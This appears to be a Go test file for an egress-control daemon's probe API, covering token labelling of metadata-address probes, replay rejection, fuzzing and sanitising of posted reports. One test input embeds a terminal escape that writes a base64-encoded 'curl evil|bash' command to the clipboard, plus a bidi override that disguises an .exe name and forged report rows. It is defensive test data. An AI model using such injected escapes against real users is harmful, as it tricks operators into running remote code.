package daemon

import (
	"bytes"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/egressd/egressd/policy"
	"github.com/egressd/egressd/selftest"
)

func testProbes(t testing.TB) *probes {
	p, err := policy.Parse(strings.NewReader("version: 1\nselftest:\n  metadata: [169.254.169.254]\n  canary_name: \"{token}.canary.example.net\"\n"), "t.yaml")
	if err != nil {
		t.Fatal(err)
	}
	ps := newProbes(slog.New(slog.DiscardHandler), nil)
	ps.setPolicy(p)
	return ps
}

func fetchPlan(t testing.TB, ps *probes, id string) planResponse {
	w := httptest.NewRecorder()
	ps.api(id, w, httptest.NewRequest("GET", "http://egressd.probe.invalid/v1/plan", nil))
	var pr planResponse
	if err := json.Unmarshal(w.Body.Bytes(), &pr); err != nil {
		t.Fatal(err)
	}
	return pr
}

// TestProbeLabel: only a live token of the same identity, to a host of
// its plan, makes a request probe traffic; anything else is an agent's.
func TestProbeLabel(t *testing.T) {
	ps := testProbes(t)
	a := fetchPlan(t, ps, "agent-a")
	fetchPlan(t, ps, "agent-b")
	now := time.Now()
	tests := []struct {
		name, id, ua, host string
		want               bool
	}{
		{"plan target", "agent-a", "egressd-probe/" + a.Token, "169.254.169.254", true},
		{"another spelling", "agent-a", "egressd-probe/" + a.Token, "0xA9FEA9FE", true},
		{"mapped", "agent-a", "egressd-probe/" + a.Token, "::ffff:169.254.169.254", true},
		{"own canary", "agent-a", "egressd-probe/" + a.Token, a.Targets.CanaryName, true},
		{"off plan", "agent-a", "egressd-probe/" + a.Token, "evil.example", false},
		{"another identity's token", "agent-b", "egressd-probe/" + a.Token, "169.254.169.254", false},
		{"made-up token", "agent-a", "egressd-probe/deadbeef", "169.254.169.254", false},
		{"plain agent", "agent-a", "curl/8", "169.254.169.254", false},
	}
	for _, tt := range tests {
		if got := ps.label(tt.id, tt.ua, tt.host); got != tt.want {
			t.Errorf("%s: label %v, want %v", tt.name, got, tt.want)
		}
	}
	ps.now = func() time.Time { return now.Add(probeTokenTTL + time.Minute) }
	if ps.label("agent-a", "egressd-probe/"+a.Token, "169.254.169.254") {
		t.Error("an expired token still labels")
	}
}

// TestProbeResultAPI: a result needs this identity's token, once; it is
// recorded per identity.
func TestProbeResultAPI(t *testing.T) {
	ps := testProbes(t)
	a := fetchPlan(t, ps, "agent-a")
	post := func(id, token string) int {
		b, _ := json.Marshal(map[string]any{"token": token, "report": &selftest.Report{Results: []selftest.Result{{ID: "tcp/x", Status: selftest.Leak}}}})
		w := httptest.NewRecorder()
		ps.api(id, w, httptest.NewRequest("POST", "http://egressd.probe.invalid/v1/result", bytes.NewReader(b)))
		return w.Code
	}
	if c := post("agent-b", a.Token); c != http.StatusForbidden {
		t.Errorf("another identity's token: %d, want 403", c)
	}
	if c := post("agent-a", a.Token); c != http.StatusOK {
		t.Errorf("own token: %d, want 200", c)
	}
	if c := post("agent-a", a.Token); c != http.StatusForbidden {
		t.Errorf("token replayed: %d, want 403", c)
	}
	if s := ps.ids["agent-a"]; s == nil || s.last == nil || s.last.Outcome() != selftest.OutcomeLeak {
		t.Errorf("not recorded: %+v", s)
	}
}

// FuzzProbeAPI: whatever a sandbox posts (TOKEN stands for its live run
// token), the API answers without panicking, and a result it accepts is
// recorded for that identity.
func FuzzProbeAPI(f *testing.F) {
	f.Add([]byte(`{"token":"TOKEN","report":{"time":"2026-01-01T00:00:00Z","results":[{"id":"a","status":"LEAK"}]}}`))
	f.Add([]byte(`{"token":"x","report":{"results":[]}}`))
	f.Add([]byte(`{"token":"TOKEN","every_ns":-5,"report":null}`))
	f.Add([]byte(`[`))
	f.Fuzz(func(t *testing.T, body []byte) {
		ps := testProbes(t)
		pr := fetchPlan(t, ps, "agent-a")
		body = bytes.ReplaceAll(body, []byte("TOKEN"), []byte(pr.Token))
		w := httptest.NewRecorder()
		ps.api("agent-a", w, httptest.NewRequest("POST", "http://egressd.probe.invalid/v1/result", bytes.NewReader(body)))
		io.Copy(io.Discard, w.Body)
		if s := ps.ids["agent-a"]; (w.Code == http.StatusOK) != (s.last != nil) {
			t.Fatalf("answered %d but recorded %v: %s", w.Code, s.last != nil, body)
		}
	})
}

// TestProbeResultIsCleaned: a posted report is the sandbox's own text, and
// it went into the history, the logs and `egressd report` as sent:
// terminal escapes (an OSC 52 clipboard write, a screen clear), bidi
// overrides that reorder what the operator reads, and lines that fake
// report rows; and its schedule was the sandbox's, so a report claiming a
// 100-year interval was never overdue. Text is cleaned of control and bidi
// characters and capped; the schedule is capped at a day.
func TestProbeResultIsCleaned(t *testing.T) {
	ps := testProbes(t)
	a := fetchPlan(t, ps, "agent-a")
	dirty := "leak\x1b]52;c;Y3VybCBldmlsfGJhc2g=\x07\x1b[2J\r\n| tcp/x | PASS |\u202egnp.exe" + strings.Repeat("x", 10000)
	rep := &selftest.Report{Results: []selftest.Result{{ID: "tcp/x\x1b[8m", Route: dirty, Target: dirty, Expected: dirty, Status: selftest.Leak, Result: dirty, Detail: dirty}},
		Credentials: []selftest.Credential{{Kind: dirty, Name: dirty, Location: dirty}}}
	b, _ := json.Marshal(map[string]any{"token": a.Token, "every_ns": int64(100 * 365 * 24 * time.Hour), "report": rep})
	w := httptest.NewRecorder()
	ps.api("agent-a", w, httptest.NewRequest("POST", "http://egressd.probe.invalid/v1/result", bytes.NewReader(b)))
	if w.Code != http.StatusOK {
		t.Fatalf("post: %d %s", w.Code, w.Body)
	}
	s := ps.ids["agent-a"]
	r, c := s.last.Results[0], s.last.Credentials[0]
	for _, f := range []string{r.ID, r.Route, r.Target, r.Expected, r.Result, r.Detail, c.Kind, c.Name, c.Location} {
		if strings.ContainsAny(f, "\x1b\x07\r\n\u202e") || len(f) > 1100 {
			t.Errorf("recorded as sent (%d bytes): %.80q", len(f), f)
		}
	}
	if s.last.Outcome() != selftest.OutcomeLeak {
		t.Errorf("outcome %s after cleaning, want leak", s.last.Outcome())
	}
	if s.every > 24*time.Hour {
		t.Errorf("schedule %v taken from the sandbox, want at most a day", s.every)
	}
}
